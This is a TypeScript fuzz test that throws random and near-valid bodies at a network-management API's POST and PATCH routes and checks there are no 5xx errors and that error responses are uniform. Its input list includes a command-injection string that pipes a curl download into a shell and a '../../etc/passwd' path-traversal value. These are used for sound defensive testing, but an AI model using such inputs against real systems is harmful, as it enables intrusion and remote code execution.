// Random bodies on every POST and PATCH route: whatever arrives, the answer is never a 5xx, and
// every 4xx is {error: {code, message}} with a code from the one table, at its status.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PROTOCOL_VERSION, emptyObservedState, observedDigest } from '@crossdock/shared';
import { ERROR_STATUS } from '../errors.ts';
import { createTestApp } from '../test-support.ts';

type TestApp = Awaited<ReturnType<typeof createTestApp>>;

const RUNS_PER_ROUTE = 150;

// JSON.stringify cannot write these numbers; a marker string is swapped for the raw token.
const RAW_NUMBERS = ['1e400', '-1e400', '1e-400', '-0', '123456789012345678901234567890', '0.1e1', '24.0', '9007199254740993'];
const marker = (token: string) => `@@raw:${token}@@`;
const unmark = (json: string) => json.replace(/"@@raw:([^@"]+)@@"/g, '$1');

const FIELDS = [
  'name',
  'cidr',
  'subnetPrefixLength',
  'reserved',
  'address',
  'interface',
  'labels',
  'pool',
  'allocate',
  'host',
  'prefixLength',
  'gateway',
  'network',
  'mode',
  'type',
  'protocol',
  'executorVersion',
  'hostname',
  'state',
  'digest',
  'jobId',
  'generation',
  'accepted',
  'error',
  'results',
  '__proto__',
  'constructor',
];

const byte = fc.integer({ min: 0, max: 255 });
const address = fc.tuple(byte, byte, byte, byte).map((b) => b.join('.'));
// Well-formed names, addresses and blocks reach the IPAM rules, not just the schema.
const wellFormed = fc.oneof(
  fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?$/),
  address,
  fc.tuple(address, fc.integer({ min: 0, max: 33 })).map(([a, n]) => `${a}/${n}`),
  fc.tuple(fc.constantFrom(10, 127, 169, 172, 192, 198, 224, 240), byte, fc.constantFrom(8, 12, 16, 20, 24, 28)).map(([a, b, n]) => `${a}.${b}.0.0/${n}`),
);
const strings = fc.oneof(
  { weight: 4, arbitrary: wellFormed },
  { weight: 4, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '',
      'default',
      'node-1',
      'crossdock',
      'bridge',
      'host',
      'none',
      'eth0',
      'network',
      'bip',
      'hello',
      'state',
      'result',
      '10.100.0.0/16',
      '10.100.7.0/24',
      '10.20.0.0/16',
      '10.20.0.5/16',
      '127.0.0.0/8',
      '0.0.0.0/0',
      '224.0.0.0/4',
      '10.100.7.1',
      '198.51.100.77',
      '127.0.0.1',
      '255.255.255.255',
      '1e400',
      '-1',
      'NaN',
      'Infinity',
      '24',
      'evil; curl http://x|sh',
      'a\u202eb',
      'a\u0085b',
      'a\u200bb',
      '\u0000',
      '\ud800',
      '😀',
      '../../etc/passwd',
      '%00',
    ),
  },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('x', '\u202e', '10.', '/'), fc.integer({ min: 1000, max: 300_000 })).map(([s, n]) => s.repeat(n)) },
);
const numbers = fc.oneof(
  fc.integer(),
  fc.integer({ min: -40, max: 40 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(0, -1, 1, 8, 16, 24, 30, 31, 32, 33, 2 ** 31, 2 ** 53, Number.MAX_VALUE, Number.MIN_VALUE),
  fc.constantFrom(...RAW_NUMBERS).map(marker),
);
const scalars = fc.oneof(strings, numbers, fc.boolean(), fc.constant(null));
const values = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 6, arbitrary: scalars },
    { weight: 1, arbitrary: fc.array(tie('value'), { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.oneof(fc.constantFrom(...FIELDS), fc.string({ maxLength: 8 })), tie('value'), { maxKeys: 4 }) },
  ),
})).value;

/** Objects made of the routes' own field names (and some others) holding anything. */
const fieldObjects = fc.dictionary(
  fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...FIELDS) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }) }),
  values,
  {
    maxKeys: 6,
  },
);

/** A value of the same JSON type as `like`: it passes the schema and reaches the handler. */
function sameType(like: unknown): fc.Arbitrary<unknown> {
  if (typeof like === 'string') return strings;
  if (typeof like === 'number') return numbers;
  if (typeof like === 'boolean') return fc.boolean();
  if (Array.isArray(like)) return fc.array(strings, { maxLength: 3 });
  if (like !== null && typeof like === 'object') {
    const keys = fc.oneof(strings, fc.constantFrom(...Object.keys(like), 'room', 'io.example/zone'));
    return fc.dictionary(keys, strings, { maxKeys: 3 });
  }
  return values;
}

/** A valid body with some fields changed (mostly within their type), dropped, or added. */
function nearValid(valid: Record<string, unknown>) {
  const keys = Object.keys(valid);
  const change = fc.oneof(
    ...(keys.length ? [{ weight: 6, arbitrary: fc.constantFrom(...keys).chain((key) => sameType(valid[key]).map((value) => ({ key, value }))) }] : []),
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...keys, ...FIELDS), values).map(([key, value]) => ({ key, value })) },
    { weight: 1, arbitrary: fc.constantFrom(...keys, ...FIELDS).map((key) => ({ key, value: undefined as unknown })) },
  );
  return fc.array(change, { minLength: 1, maxLength: 3 }).map((changes) => {
    const body: Record<string, unknown> = { ...valid };
    for (const { key, value } of changes) {
      if (value === undefined) delete body[key];
      else body[key] = value;
    }
    return body;
  });
}

/** Raw request text: mostly JSON of the above, sometimes not JSON at all. */
function bodies(valid: Record<string, unknown>) {
  return fc.oneof(
    { weight: 3, arbitrary: fieldObjects.map((b) => unmark(JSON.stringify(b))) },
    { weight: 6, arbitrary: nearValid(valid).map((b) => unmark(JSON.stringify(b))) },
    { weight: 1, arbitrary: values.map((v) => unmark(JSON.stringify(v) ?? 'null')) },
    { weight: 1, arbitrary: fc.string({ maxLength: 30 }) },
  );
}

describe('random bodies on every POST and PATCH route', () => {
  let t: TestApp;
  let hostToken: string;

  beforeAll(async () => {
    t = await createTestApp();
    const register = async (name: string, address: string) => {
      const res = await t.app.inject({ method: 'POST', url: '/v1/hosts', headers: t.auth, payload: { name, address } });
      expect(res.statusCode, res.body).toBe(201);
      return JSON.parse(res.body).token as string;
    };
    await register('node-1', '198.51.100.11');
    await register('node-rot', '198.51.100.12');
    hostToken = await register('node-agent', '198.51.100.13');
  });
  afterAll(async () => {
    await t?.close();
  });

  async function expectNoServerError(method: 'POST' | 'PATCH', url: string, payload: string, token: string): Promise<void> {
    const res = await t.app.inject({ method, url, payload, headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' } });
    const what = `${method} ${url} ${payload.slice(0, 200)} -> ${res.statusCode} ${res.body.slice(0, 300)}`;
    expect(res.statusCode, what).toBeLessThan(500);
    if (res.statusCode < 400) return;
    const body = JSON.parse(res.body) as { error: { code: string; message: string } };
    expect(Object.keys(body), what).toEqual(['error']);
    expect(Object.keys(body.error).sort(), what).toEqual(['code', 'message']);
    expect(body.error.code, what).toMatch(/^[A-Z_]+$/);
    expect(ERROR_STATUS[body.error.code as keyof typeof ERROR_STATUS], what).toBe(res.statusCode);
    expect(typeof body.error.message, what).toBe('string');
    expect(body.error.message.length, what).toBeGreaterThan(10);
    expect(body.error.message.length, what).toBeLessThan(2100);
  }

  const routes: Array<[label: string, method: 'POST' | 'PATCH', url: fc.Arbitrary<string>, valid: Record<string, unknown>, agent: boolean]> = [
    ['POST /v1/pools', 'POST', fc.constant('/v1/pools'), { name: 'p1', cidr: '10.20.0.0/16', subnetPrefixLength: 24, reserved: ['10.20.0.0/24'] }, false],
    [
      'POST /v1/hosts',
      'POST',
      fc.constant('/v1/hosts'),
      { name: 'node-9', address: '198.51.100.90', interface: 'eth0', labels: { team: 'a' }, pool: 'default', allocate: true },
      false,
    ],
    [
      'PATCH /v1/hosts/:name',
      'PATCH',
      fc.constantFrom('/v1/hosts/node-1', '/v1/hosts/nope'),
      { address: '198.51.100.91', interface: 'eth1', labels: { team: 'b' } },
      false,
    ],
    [
      'POST /v1/subnets',
      'POST',
      fc.constant('/v1/subnets'),
      { host: 'node-1', pool: 'default', prefixLength: 26, cidr: '10.100.200.0/26', gateway: '10.100.200.1', network: 'n1', mode: 'network' },
      false,
    ],
    ['POST /v1/hosts/:name/token', 'POST', fc.constantFrom('/v1/hosts/node-rot/token', '/v1/hosts/nope/token'), {}, false],
    ['POST /v1/agent/state (state)', 'POST', fc.constant('/v1/agent/state'), { type: 'state', digest: '000000000000' }, true],
    [
      'POST /v1/agent/state (hello)',
      'POST',
      fc.constant('/v1/agent/state'),
      {
        type: 'hello',
        protocol: PROTOCOL_VERSION,
        executorVersion: 'test',
        hostname: 'node-agent',
        state: emptyObservedState(),
        digest: observedDigest(emptyObservedState()),
      },
      true,
    ],
    [
      'POST /v1/agent/jobs/:id/result',
      'POST',
      fc.oneof(
        fc.constantFrom('/v1/agent/jobs/1/result', '/v1/agent/jobs/0/result', '/v1/agent/jobs/1e400/result', '/v1/agent/jobs/x/result'),
        fc.integer().map((n) => `/v1/agent/jobs/${n}/result`),
      ),
      { type: 'result', jobId: 1, generation: 0, accepted: true, results: [], digest: '000000000000' },
      true,
    ],
  ];

  it.each(routes)(
    '%s',
    async (_label, method, url, valid, agent) => {
      await fc.assert(
        fc.asyncProperty(url, bodies(valid), async (path, payload) => {
          await expectNoServerError(method, path, payload, agent ? hostToken : t.auth.authorization.slice('Bearer '.length));
        }),
        { numRuns: RUNS_PER_ROUTE },
      );
    },
    60_000,
  );
});
